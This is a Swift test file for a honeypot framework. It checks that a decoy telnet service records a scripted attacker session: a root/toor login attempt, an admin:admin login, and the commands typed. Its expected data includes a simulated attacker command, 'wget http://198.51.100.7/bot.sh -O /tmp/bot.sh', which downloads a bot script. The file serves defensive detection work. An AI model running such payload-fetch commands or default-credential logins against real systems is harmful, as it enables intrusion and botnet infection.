import DecnetCore
import DecnetTesting
import Foundation
import Testing

/// telnet against Debian's `telnet` client, driven by an expect script (python pexpect).
@Suite struct TelnetLiveTests {
    static var usable: Bool { (ExternalTool.telnet.path != nil && ExternalTool.pexpectInstalled) || ExternalTool.isCI }

    @Test(.enabled(if: usable, "needs telnet and python3-pexpect (required under CI)"))
    func telnetClientLogsInAndEveryCommandIsCaptured() async throws {
        let python = try #require(ExternalTool.python3.path, "\(ExternalTool.python3.missingMessage)")
        _ = try #require(ExternalTool.telnet.path, "\(ExternalTool.telnet.missingMessage)")
        try #require(ExternalTool.pexpectInstalled, "python3 cannot import pexpect (apt-get install python3-pexpect)")
        let artifacts = try TemporaryDirectory()
        defer { artifacts.remove() }
        let service = try await LiveService.start(
            "telnet",
            persona: ["users": "admin:admin"],
            artifactDirectory: artifacts.url.path
        )
        let script = PackageLayout.root.appendingPathComponent("Tests/DecnetRuntimeTests/Scripts/telnet_session.py")
            .path
        let result = try await ProcessRunner.run(python, [script, "127.0.0.1", String(service.port)])
        #expect(result.status == 0, "\(result.standardOutput)\(result.standardError)")
        #expect(
            result.standardOutput.contains(
                "Linux db-01 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01) x86_64 GNU/Linux"
            )
        )
        #expect(result.standardOutput.contains("uid=1000(admin) gid=1000(admin)"))
        await service.capture.wait { $0.contains { $0.id == .connectionClose } }
        await service.stop()

        let failure = try #require(service.capture.events(.loginFailed).first)
        #expect(failure[field: "username"] == "root" && failure[field: "password"] == "toor")
        let success = try #require(service.capture.events(.loginSuccess).first)
        #expect(success[field: "username"] == "admin" && success[field: "password"] == "admin")
        #expect(success.service == "telnet" && success.decky == "decky-test" && success.source.ip == "127.0.0.1")
        let commands = service.capture.events(.commandInput).compactMap { $0[field: "command"] }
        #expect(commands == ["uname", "id", "wget", "exit"])
        #expect(service.capture.events(.commandInput).allSatisfy { $0[field: "elapsed_ms"] != nil })
        #expect(service.capture.events(.fileDownload).first?[field: "url"] == "http://198.51.100.7/bot.sh")
        #expect(service.capture.events(.clientFingerprint).contains { $0[field: "terminal"] != nil })

        // The session is kept as an asciicast recording: a header, then what was typed and shown, in order.
        let recorded = try #require(service.capture.events(.sessionRecorded).first)
        #expect(recorded[field: "format"] == "asciicast-v2" && recorded[field: "inputs"] == "3")
        let path = try #require(recorded[field: "path"])
        let lines = try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n")
        let header = try JSONSerialization.jsonObject(with: Data(lines[0].utf8)) as? [String: Any]
        #expect(header?["version"] as? Int == 2)
        let frames = try lines.dropFirst().map { try JSONSerialization.jsonObject(with: Data($0.utf8)) as? [Any] }
        let typed = frames.compactMap { $0?[1] as? String == "i" ? $0?[2] as? String : nil }
        #expect(typed == ["uname -a; id\r", "wget http://198.51.100.7/bot.sh -O /tmp/bot.sh\r", "exit\r"], "\(typed)")
        let shown = frames.compactMap { $0?[1] as? String == "o" ? $0?[2] as? String : nil }.joined()
        #expect(shown.contains("uid=1000(admin) gid=1000(admin)"))
        let times = frames.compactMap { $0?[0] as? Double }
        #expect(times == times.sorted() && times.count == frames.count)
    }
}
